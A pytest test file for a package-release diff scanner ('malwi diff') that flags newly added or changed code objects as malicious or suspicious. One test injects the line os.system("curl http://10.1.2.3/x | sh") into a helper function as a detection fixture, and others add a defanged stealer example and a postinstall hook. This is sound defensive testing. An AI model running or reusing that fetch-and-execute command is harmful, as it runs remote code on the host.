"""`malwi diff OLD NEW`: what a release adds, object by object, with a verdict on the change.

The trees are built in the test from the shipped (defanged) examples; nothing is run."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest

from malwi.cli import UsageError, main, release_pair

from .conftest import EXAMPLES, FakeRegistry, write_tree
from .test_sources import serve_npm, serve_pypi, tar_bytes

STEALER = (EXAMPLES / "malicious-python" / "stealer.py").read_text()
HELPERS = '''"""Small text helpers."""


def words(text):
    return text.split()


def shout(text):
    return text.upper() + "!"
'''


def release(tmp_path: Path, version: str, extra: dict[str, str] | None = None) -> Path:
    files = {
        "setup.py": f"from setuptools import setup\nsetup(name='textkit', version='{version}')\n",
        "textkit/__init__.py": HELPERS,
        "textkit/stats.py": (EXAMPLES / "benign" / "textstats.py").read_text(),
    }
    return write_tree(tmp_path / f"textkit-{version}", {**files, **(extra or {})})


def diff(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    code = main(["diff", *args, "--format", "json", "--quiet"])
    return code, json.loads(capsys.readouterr().out)


def test_the_objects_a_release_adds_are_listed_with_their_verdict(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = release(tmp_path, "1.0")
    new = release(tmp_path, "1.1", {"textkit/telemetry.py": STEALER})
    code, document = diff(capsys, str(old), str(new))
    listed = {(o["path"], o["object"]): o for o in document["objects"]}
    assert ("textkit/telemetry.py", "<module>") in listed and ("textkit/telemetry.py", "collect") in listed
    assert {o["path"] for o in document["objects"]} == {"textkit/telemetry.py"}  # nothing else changed
    collect = listed["textkit/telemetry.py", "collect"]
    assert collect["status"] == "new" and collect["score"] is not None and collect["score"] >= 0.9
    assert "ENVIRONMENT_VARIABLE_ACCESS" in collect["added_activities"]
    assert collect["reach"] == "library"
    assert document["added_files"] == ["textkit/telemetry.py"] and document["removed_files"] == []
    assert document["change"]["verdict"] == "malicious" and code == 1


def test_a_changed_object_names_only_what_it_adds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0")
    changed = HELPERS.replace(
        'return text.upper() + "!"',
        'import os\n    os.system("curl http://10.1.2.3/x | sh")\n    return text.upper()',
    )
    new = release(tmp_path, "1.1", {"textkit/__init__.py": changed})
    code, document = diff(capsys, str(old), str(new))
    # Only the function changed: the module's own code (its top level) and `words` did not.
    assert [(o["path"], o["object"], o["status"]) for o in document["objects"]] == [
        ("textkit/__init__.py", "shout", "changed")
    ]
    shout = document["objects"][0]
    assert "PROCESS_MANAGEMENT" in shout["added_activities"] and shout["reach"] == "library"
    assert document["change"]["verdict"] in ("malicious", "suspicious")
    assert code == (1 if document["change"]["verdict"] == "malicious" else 0)


def test_moved_code_is_no_change(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0", {"textkit/extra.py": "def shout(text):\n    return text.upper() + '!'\n"})
    new = release(tmp_path, "1.1", {"textkit/other.py": "def shout(text):\n    return text.upper() + '!'\n"})
    code, document = diff(capsys, str(old), str(new))
    assert not any(o["object"] == "shout" for o in document["objects"])
    assert document["added_files"] == ["textkit/other.py"] and document["removed_files"] == [
        "textkit/extra.py"
    ]
    assert document["change"]["verdict"] == "good" and code == 0


def test_an_unchanged_release_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0")
    new = release(tmp_path, "1.1")
    (new / "setup.py").write_text((old / "setup.py").read_text())
    capsys.readouterr()
    assert main(["diff", str(old), str(new)]) == 0
    out = capsys.readouterr().out
    assert "no code changed" in out and out.splitlines()[-1].startswith("=> change good")


def test_archives_are_compared_inside_their_top_folders(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = tmp_path / "textkit-1.0.tar.gz"
    new = tmp_path / "textkit-1.1.tar.gz"
    old.write_bytes(tar_bytes([("textkit-1.0/textkit/__init__.py", HELPERS.encode())]))
    new.write_bytes(
        tar_bytes(
            [
                ("textkit-1.1/textkit/__init__.py", HELPERS.encode()),
                ("textkit-1.1/textkit/sync.py", STEALER.encode()),
            ]
        )
    )
    code, document = diff(capsys, str(old), str(new))
    assert document["added_files"] == ["textkit/sync.py"]
    assert {o["path"] for o in document["objects"]} == {"textkit/sync.py"}
    assert code == 1


def test_a_new_install_script_is_at_least_suspicious(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = {"name": "padder", "version": "1.0.0", "main": "index.js"}
    index = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"
    old = write_tree(tmp_path / "old", {"package.json": json.dumps(manifest), "index.js": index})
    hooked = dict(manifest, version="1.0.1", scripts={"postinstall": "node setup.js"})
    new = write_tree(
        tmp_path / "new",
        {"package.json": json.dumps(hooked), "index.js": index, "setup.js": "console.log('thanks');\n"},
    )
    _, document = diff(capsys, str(old), str(new))
    assert [(h["script"], h["status"]) for h in document["install_hooks"]] == [("postinstall", "new")]
    assert document["change"]["verdict"] in ("suspicious", "malicious")
    assert document["added_files"] == ["package.json#scripts.postinstall", "setup.js"]


def test_releases_from_the_registry(registry_server: str, capsys: pytest.CaptureFixture[str]) -> None:
    for version, extra in (("1.0", []), ("1.1", [("demo-1.1/demo/beacon.py", STEALER.encode())])):
        serve_pypi(
            "demo", version, tar_bytes([(f"demo-{version}/demo/__init__.py", HELPERS.encode()), *extra])
        )
    code, document = diff(capsys, "pypi:demo==1.0..1.1")
    assert document["old"]["label"] == "demo==1.0" and document["new"]["label"] == "demo==1.1"
    assert document["added_files"] == ["demo/beacon.py"] and code == 1
    assert (
        "/files/demo-1.0.tar.gz" in FakeRegistry.requests
        and "/files/demo-1.1.tar.gz" in FakeRegistry.requests
    )

    for version in ("2.0.0", "2.1.0"):
        serve_npm("padder", version, tar_bytes([("package/index.js", b"module.exports = 1;\n")]))
    code, document = diff(capsys, "npm:padder@2.1.0", "npm:padder@2.1.0")
    assert document["objects"] == [] and document["change"]["verdict"] == "good" and code == 0


def test_release_specs() -> None:
    assert release_pair("pypi:six==1.16.0..1.17.0", None) == (
        ("pypi", "six", "1.16.0"),
        ("pypi", "six", "1.17.0"),
    )
    assert release_pair("npm:@scope/pad@1.0.0..2.0.0", None) == (
        ("npm", "@scope/pad", "1.0.0"),
        ("npm", "@scope/pad", "2.0.0"),
    )
    assert release_pair("pypi:six==1.0", "pypi:six==2.0") == (("pypi", "six", "1.0"), ("pypi", "six", "2.0"))
    for bad in ("pypi:six", "npm:@scope/pad", "pypi:==1.0"):
        with pytest.raises(UsageError):
            release_pair(bad, "pypi:six==2.0")
    with pytest.raises(UsageError, match="needs OLD and NEW"):
        release_pair("pypi:six==1.0", None)


def test_a_missing_side_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = release(tmp_path, "1.0")
    capsys.readouterr()
    assert main(["diff", str(old), str(tmp_path / "gone")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "gone" in err
    shutil.rmtree(old)
